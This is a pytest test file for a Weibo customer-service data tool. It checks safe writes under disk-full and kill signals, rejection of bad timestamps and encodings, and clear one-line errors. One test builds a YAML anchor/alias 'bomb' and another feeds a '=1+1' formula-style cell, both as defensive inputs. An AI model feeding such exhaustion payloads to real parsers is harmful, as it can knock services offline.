resource.setrlimit(resource.RLIMIT_FSIZE, (16_000, 16_000))
"""


@pytest.mark.parametrize("ext", [".csv", ".jsonl", ".xlsx", ".parquet", ".html"])
def test_a_write_the_system_refuses_is_one_line_and_leaves_the_previous_file(tmp_path, ext):
    # a full disk gave a traceback from every writer: only the temporary file and the rename were guarded
    src = _export(tmp_path, rows=3000)
    out = tmp_path / f"out{ext}"
    out.write_bytes(b"previous")
    if ext == ".html":  # what report --out writes with
        body = (f"from wbcs.errors import InputError\nfrom wbcs.io import write_text\ntry:\n"
                f"    write_text({str(out)!r}, '<p>x</p>' * 10_000)\n"
                f"except InputError as e:\n    sys.exit(f'wbcs report: error: {{e}}')\n")
    else:
        body = f"from wbcs.cli import main\nsys.exit(main(['ingest', {str(src)!r}, '--out', {str(out)!r}]))\n"
    r = subprocess.run([sys.executable, "-c", _FILE_SIZE_LIMIT + body], capture_output=True, text=True, timeout=600)
    assert r.returncode in (1, 2) and len(r.stderr.strip().splitlines()) == 1, r.stderr
    assert f"{out}: cannot write (File too large); choose another place" in r.stderr, r.stderr
    assert out.read_bytes() == b"previous"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["export.csv", out.name])  # no temporary file


def test_a_full_disk_says_to_free_space(tmp_path, monkeypatch):
    import errno

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(pd.DataFrame, "to_csv", full)
    with pytest.raises(InputError, match=r"o.csv: cannot write \(No space left on device\); free space"):
        write_table(pd.DataFrame({"text": ["x"]}), tmp_path / "o.csv")
    assert list(tmp_path.iterdir()) == []


def test_kill_9_mid_write_leaves_the_previous_file(tmp_path):
    path = tmp_path / "posts.parquet"
    write_table(pd.DataFrame({"text": ["previous"]}), path)
    script = (f"import os, signal, pandas as pd\nfrom wbcs.io import TableWriter\n"
              f"with TableWriter({str(path)!r}) as w:\n"
              f"    w.write(pd.DataFrame({{'text': ['new'] * 1000}}))\n"
              f"    os.kill(os.getpid(), signal.SIGKILL)\n")
    r = subprocess.run([sys.executable, "-c", script], capture_output=True)
    assert r.returncode == -signal.SIGKILL
    assert pd.read_parquet(path)["text"].tolist() == ["previous"]


def test_a_rerun_without_rejects_removes_the_stale_rejects_file(tmp_path):
    src = _export(tmp_path)
    out = tmp_path / "posts.parquet"
    assert run_cli("ingest", str(src), "--out", str(out)).returncode == 0
    rejects = tmp_path / "posts.rejects.csv"
    assert rejects.is_file()
    src.write_text("微博ID,内容,发布时间\n3830401296796826,好,2024-03-01 10:00\n", encoding="utf-8")
    r = run_cli("ingest", str(src), "--out", str(out))
    assert r.returncode == 0 and "removed the previous run's" in r.stdout
    assert not rejects.exists()


# --------------------------------------------------------------------------- 8. times out of range


def test_out_of_range_times_reject_their_row_only(tmp_path):
    src = tmp_path / "a.csv"
    src.write_text("微博ID,内容,发布时间,回复时间\n"
                   "3830401296796801,a,9999-12-31,\n3830401296796802,b,0001-01-01,\n"
                   "3830401296796803,c,1677-09-21,\n3830401296796804,d,2262-04-12,\n"
                   "3830401296796805,e,9999999999999,\n3830401296796806,f,2024-03-01 10:00,9999-12-31\n"
                   "3830401296796807,g,2024-03-01 10:00,2024-03-01 10:30\n", encoding="utf-8")
    result = ingest([src])
    assert result.posts["text"].tolist() == ["g"]
    assert result.rejects["reason"].tolist() == ["time out of range"] * 6
    assert result.rejects["detail"].iloc[5] == "reply_at '9999-12-31'"


# --------------------------------------------------------------------------- 9. round trips


@pytest.mark.parametrize("ext", [".csv", ".jsonl", ".parquet", ".xlsx"])
def test_every_command_reads_what_ingest_writes(tmp_path, ext):
    """has_phone written as "False" in a CSV is read back as False (triage's TypeError)."""
    src = tmp_path / "a.csv"
    src.write_text("微博ID,内容,发布时间,用户昵称,IP属地,来源,回复时间\n"
                   "3830401296796826,信号差 电话13812345678,2024-03-01 10:00,小王,广东,iPhone客户端,2024-03-01 10:30\n"
                   "3830401296796827,=1+1 宽带,2024-03-01 11:00,小李,海外,,\n", encoding="utf-8")
    first = ingest([src])
    out = write_table(first.posts, tmp_path / f"posts{ext}")
    again, info = read_posts(out)
    assert info["rejected"] == 0
    cols = ["post_id", "text", "has_phone", "time_from_mid", "author_name", "ip_location", "client", "province"]
    pd.testing.assert_frame_equal(again[cols], first.posts[cols], check_dtype=False)
    assert again["has_phone"].tolist() == [True, False]  # the number is masked by now: read back, not found
    assert (again["created_at"] == first.posts["created_at"]).all()
    assert again["reply_at"].iloc[0] == first.posts["reply_at"].iloc[0]


def test_triage_reads_the_csv_ingest_wrote(tmp_path):
    src = _export(tmp_path)
    posts = tmp_path / "posts.csv"
    assert run_cli("ingest", str(src), "--out", str(posts)).returncode == 0
    assert "False" in posts.read_text(encoding="utf-8-sig")  # has_phone as CSV writes it
    r = run_cli("triage", "--posts", str(posts), "--out", str(tmp_path / "t.csv"))
    assert r.returncode == 0, r.stderr
    assert "triage: 2 posts routed" in r.stdout


# --------------------------------------------------------------------------- 10. clear errors


def test_damaged_empty_or_read_only_label_stores_are_one_line(tmp_path):
    from wbcs.labeling.store import LabelStore

    empty = tmp_path / "empty.sqlite"
    empty.write_bytes(b"")
    junk = tmp_path / "junk.sqlite"
    junk.write_bytes(b"SQLite format 3\x00" + bytes(4096))
    for store, message in [(empty, "empty file (0 bytes), not a label store"), (junk, "not a wbcs label store")]:
        r = run_cli("label", "status", "--store", str(store))
        assert r.returncode == 2 and message in r.stderr and len(r.stderr.strip().splitlines()) == 1, r.stderr
    assert empty.stat().st_size == 0  # not silently made a new store
    with LabelStore(tmp_path / "ok.sqlite") as s:
        s.record("i1", "sentiment", "negative", "ann1")
    with LabelStore(tmp_path / "ok.sqlite", readonly=True) as s, pytest.raises(InputError, match="is read-only"):
        s.record("i2", "sentiment", "negative", "ann1")
    (tmp_path / "file.txt").write_text("x")  # a new store where no folder can be made
    labels, sample = tmp_path / "l.csv", tmp_path / "sample.csv"
    labels.write_text("item_id,sentiment\n1,negative\n")
    sample.write_text("post_id\n1\n")
    r = run_cli("label", "import", str(labels), "--annotator", "ann1", "--sample", str(sample),
                "--store", str(tmp_path / "file.txt" / "s.sqlite"))
    assert r.returncode == 2 and "cannot create a label store" in r.stderr, r.stderr
    assert len(r.stderr.strip().splitlines()) == 1


# --------------------------------------------------------------------------- 11. silent wrong results


def test_a_gbk_row_in_a_utf8_file_is_rejected_not_kept_garbled(tmp_path):
    src = tmp_path / "a.csv"
    src.write_bytes("微博ID,内容,发布时间\n3830401296796826,信号很差,2024-03-01\n".encode()
                    + "3830401296796827,宽带断了,2024-03-01\n".encode("gbk")
                    + "3830401296796828,好的,2024-03-01\n".encode())
    result = ingest([src])
    assert result.posts["text"].tolist() == ["信号很差", "好的"]
    assert result.rejects["reason"].tolist() == ["bad encoding"]
    assert "宽带断了" in result.rejects["raw_line"].iloc[0]  # shown as GB18030 text


def test_the_same_file_twice_is_refused(tmp_path):
    src = _export(tmp_path)
    for other in (src, tmp_path / "." / "export.csv"):
        r = run_cli("ingest", str(src), str(other), "--out", str(tmp_path / "o.parquet"))
        assert r.returncode == 2 and "given twice" in r.stderr, r.stderr


# --------------------------------------------------------------------------- 4, 10. scenario files from the command line

def _scenario(tmp_path, **changes) -> Path:
    """data/scenarios/default.yaml with top-level keys replaced or, for 'a.b', one nested key."""
    import yaml

    data = load_yaml(Path(__file__).resolve().parents[1] / "data" / "scenarios" / "default.yaml")
    for key, value in changes.items():
        *parents, last = key.split(".")
        node = data
        for p in parents:
            node = node[p]
        node[last] = value
    path = tmp_path / "scenario.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


@pytest.mark.parametrize("changes, message", [
    ({"arrivals.posts_per_day": 1_000_000_000}, "arrivals.posts_per_day must be a number ≥ 0 and ≤ 3,000,000"),
    ({"arrivals.posts_per_day": float("inf")}, "arrivals.posts_per_day must be a number"),
    ({"agents": 10**12}, "agents"),
    ({"arrivals.bursts": [{"start": "2025-01-15 10:00", "hours": 2, "posts": 10**12, "kind": "complaint"}]},
     "posts"),
    ({"start": date(2262, 4, 12)}, "start must be a date from 1970-01-01 to 2200-12-31"),
    ({"policy": "."}, "policy"),
])
def test_a_scenario_beyond_what_a_run_can_hold_is_one_line(tmp_path, changes, message):
    r = run_cli("simulate", "--scenario", str(_scenario(tmp_path, **changes)), "--replications", "1")
    lines = r.stderr.strip().splitlines()
    assert r.returncode == 2 and len(lines) == 1 and message in lines[0] and "Traceback" not in r.stderr, r.stderr


def test_a_scenario_anchor_bomb_in_its_name_is_refused_from_the_command_line(tmp_path):
    bomb = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))
    path = tmp_path / "bomb.yaml"
    path.write_text(bomb + "name: *i\n", encoding="utf-8")
    r = run_cli("simulate", "--scenario", str(path), "--replications", "1")
    assert r.returncode == 2 and "aliases" in r.stderr and len(r.stderr.strip().splitlines()) == 1, r.stderr


@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP])
def test_sigterm_or_sighup_mid_write_leaves_no_temporary_file(tmp_path, sig):
    """Python's default SIGTERM/SIGHUP ends the process without running ``finally``: the half-written temporary
    file stayed beside the output. The CLI turns them into a clean stop (exit 128 + signal, one line)."""
    import time

    src = tmp_path / "export.csv"
    src.write_text("微博ID,内容,发布时间\n" + "".join(f"{3830401296796826 + i},第{i}条,2024-03-01 10:00\n"
                                                for i in range(300_000)), encoding="utf-8")
    out = tmp_path / "posts.csv"
    out.write_bytes(b"previous")
    # the signal's default action in the child, as in a terminal (a test run under nohup ignores SIGHUP, and the
    # CLI leaves an ignored signal ignored)
    child = subprocess.Popen([sys.executable, "-m", "wbcs", "ingest", str(src), "--out", str(out)], cwd=ROOT,
                             stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
                             preexec_fn=lambda: signal.signal(sig, signal.SIG_DFL))
    deadline = time.monotonic() + 120
    while not any(p.name.startswith(".posts.csv.") for p in tmp_path.iterdir()):
        assert child.poll() is None and time.monotonic() < deadline, "the write ended before it was stopped"
        time.sleep(0.01)
    child.send_signal(sig)
    err = child.communicate(timeout=60)[1]
    assert child.returncode == 128 + sig and err.strip().endswith(f"stopped by {signal.Signals(sig).name}"), err
    assert out.read_bytes() == b"previous"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["export.csv", "posts.csv"]


def test_a_forked_child_gets_the_default_stop_signals_back():
    """cleanlab's multiprocessing pool forks workers from a CLI command: with the CLI's SIGTERM handler inherited,
    the pool terminating them made each print a traceback of the handler's exception."""
    code = ("import os, signal, sys\nimport wbcs.cli as c\nsignal.signal(signal.SIGTERM, c._stop)\npid = os.fork()\n"
            "if pid == 0:\n    os._exit(0 if signal.getsignal(signal.SIGTERM) is signal.SIG_DFL else 3)\n"
            "sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) or "
            "(4 if signal.getsignal(signal.SIGTERM) is not c._stop else 0))\n")
    r = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, (r.returncode, r.stderr)
